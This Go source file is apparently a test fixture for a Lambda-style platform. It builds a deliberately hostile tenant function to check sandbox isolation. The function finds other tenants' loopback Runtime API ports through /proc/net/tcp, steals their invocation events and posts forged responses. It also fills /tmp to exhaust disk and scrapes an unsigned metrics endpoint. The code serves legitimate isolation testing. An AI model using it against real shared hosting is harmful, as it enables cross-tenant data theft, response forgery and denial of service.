// Command hostile is an aws-lambda-go function the tests build into a `bootstrap` to attack the platform from inside
// a sandbox, as a hostile tenant would, and report how far it got.
package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/aws/aws-lambda-go/lambda"
)

// Event selects the attack.
type Event struct {
	// StealMs: for this long, look for other environments' Runtime APIs on loopback (the listening sockets in
	// /proc/net/tcp*), take their events through /invocation/next and answer them with a forged body.
	StealMs int `json:"stealMs,omitempty"`
	// FillTmpMB: write files of at most FileMB each into /tmp until this much is written or a write fails.
	FillTmpMB int `json:"fillTmpMB,omitempty"`
	FileMB    int `json:"fileMB,omitempty"`
	// ScrapeMetrics: read the server's unsigned Prometheus endpoint (every function's names and numbers).
	ScrapeMetrics bool `json:"scrapeMetrics,omitempty"`
}

// Report is what the attack achieved.
type Report struct {
	Ports        int      `json:"ports"`        // foreign listening loopback ports tried
	Answered     int      `json:"answered"`     // of those, how many answered HTTP at all
	Stolen       []string `json:"stolen"`       // events taken (their payloads)
	Forged       int      `json:"forged"`       // forged answers accepted (202)
	Errors       []string `json:"errors"`       // a sample of what went wrong for the attacker
	WrittenMB    int      `json:"writtenMB"`    // /tmp: what was written before the first failure
	WriteErr     string   `json:"writeErr"`     // /tmp: the failure
	WriteErrno   int      `json:"writeErrno"`   // its errno (ENOSPC = 28)
	TmpSizeMB    int64    `json:"tmpSizeMB"`    // /tmp: the file system's size as statfs reports it
	TmpLeftoverB int64    `json:"tmpLeftoverB"` // /tmp: bytes found there at the start (another tenant's, or an earlier run's)
	MetricsCode  int      `json:"metricsCode"`  // the status GET /metrics answered
}

func handle(ctx context.Context, e Event) (Report, error) {
	var r Report
	if e.StealMs > 0 {
		steal(&r, time.Duration(e.StealMs)*time.Millisecond)
	}
	if e.FillTmpMB > 0 {
		fillTmp(&r, e.FillTmpMB, e.FileMB)
	}
	if e.ScrapeMetrics {
		if resp, err := http.Get(os.Getenv("AWS_ENDPOINT_URL") + "/metrics"); err != nil {
			r.fail(err)
		} else {
			resp.Body.Close()
			r.MetricsCode = resp.StatusCode
		}
	}
	return r, nil
}

func (r *Report) fail(err error) {
	if len(r.Errors) < 10 {
		r.Errors = append(r.Errors, err.Error())
	}
}

// steal attacks every listening loopback port but this environment's own Runtime API and the Sluice API.
func steal(r *Report, d time.Duration) {
	own := map[int]bool{}
	if _, p, err := net.SplitHostPort(os.Getenv("AWS_LAMBDA_RUNTIME_API")); err == nil {
		n, _ := strconv.Atoi(p)
		own[n] = true
	}
	if u, err := url.Parse(os.Getenv("AWS_ENDPOINT_URL")); err == nil {
		n, _ := strconv.Atoi(u.Port())
		own[n] = true
	}
	client := &http.Client{Timeout: 500 * time.Millisecond, Transport: &http.Transport{DisableKeepAlives: true}}
	deadline := time.Now().Add(d)
	tried := map[int]bool{}
	for time.Now().Before(deadline) {
		for _, port := range listeningLoopbackPorts(r) {
			if own[port] {
				continue
			}
			if !tried[port] {
				tried[port] = true
				r.Ports++
			}
			base := "http://127.0.0.1:" + strconv.Itoa(port) + "/2018-06-01/runtime/invocation/"
			resp, err := client.Get(base + "next")
			if err != nil {
				if !errors.Is(err, context.DeadlineExceeded) && !strings.Contains(err.Error(), "Timeout") {
					r.fail(err)
				}
				continue
			}
			body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
			resp.Body.Close()
			r.Answered++
			id := resp.Header.Get("Lambda-Runtime-Aws-Request-Id")
			if resp.StatusCode != http.StatusOK || id == "" {
				continue
			}
			r.Stolen = append(r.Stolen, string(body))
			forged, err := client.Post(base+id+"/response", "application/json", strings.NewReader(`{"message":"forged by another tenant"}`))
			if err != nil {
				r.fail(err)
				continue
			}
			forged.Body.Close()
			if forged.StatusCode == http.StatusAccepted {
				r.Forged++
			}
		}
		if time.Now().Add(50 * time.Millisecond).After(deadline) {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// listeningLoopbackPorts reads the kernel's socket tables, which every process may read, for listening sockets on
// 127.0.0.1, ::1 or any address.
func listeningLoopbackPorts(r *Report) []int {
	var ports []int
	for _, table := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		f, err := os.Open(table)
		if err != nil {
			r.fail(err)
			continue
		}
		sc := bufio.NewScanner(f)
		sc.Scan() // header
		for sc.Scan() {
			fields := strings.Fields(sc.Text())
			if len(fields) < 4 || fields[3] != "0A" { // LISTEN
				continue
			}
			addr, portHex, ok := strings.Cut(fields[1], ":")
			if !ok {
				continue
			}
			if addr != "0100007F" && addr != "00000000" && addr != "00000000000000000000000001000000" && strings.Trim(addr, "0") != "" {
				continue
			}
			if p, err := strconv.ParseInt(portHex, 16, 32); err == nil {
				ports = append(ports, int(p))
			}
		}
		f.Close()
	}
	return ports
}

// fillTmp writes into /tmp until total MB are written or a write fails, in files of at most fileMB (so a per-file
// limit alone does not stop it).
func fillTmp(r *Report, total, fileMB int) {
	var st syscall.Statfs_t
	if syscall.Statfs("/tmp", &st) == nil {
		r.TmpSizeMB = int64(st.Blocks) * st.Bsize >> 20
	}
	filepath.Walk("/tmp", func(_ string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			r.TmpLeftoverB += fi.Size()
		}
		return nil
	})
	if fileMB <= 0 {
		fileMB = total
	}
	chunk := make([]byte, 1<<20)
	for i := range chunk {
		chunk[i] = byte(i)
	}
	for n := 0; r.WrittenMB < total; n++ {
		f, err := os.Create(fmt.Sprintf("/tmp/fill-%d", n))
		if err != nil {
			r.recordWriteErr(err)
			return
		}
		for m := 0; m < fileMB && r.WrittenMB < total; m++ {
			if _, err := f.Write(chunk); err != nil {
				f.Close()
				r.recordWriteErr(err)
				return
			}
			r.WrittenMB++
		}
		if err := f.Close(); err != nil {
			r.recordWriteErr(err)
			return
		}
	}
}

func (r *Report) recordWriteErr(err error) {
	r.WriteErr = err.Error()
	var errno syscall.Errno
	if errors.As(err, &errno) {
		r.WriteErrno = int(errno)
	}
}

func main() { lambda.Start(handle) }
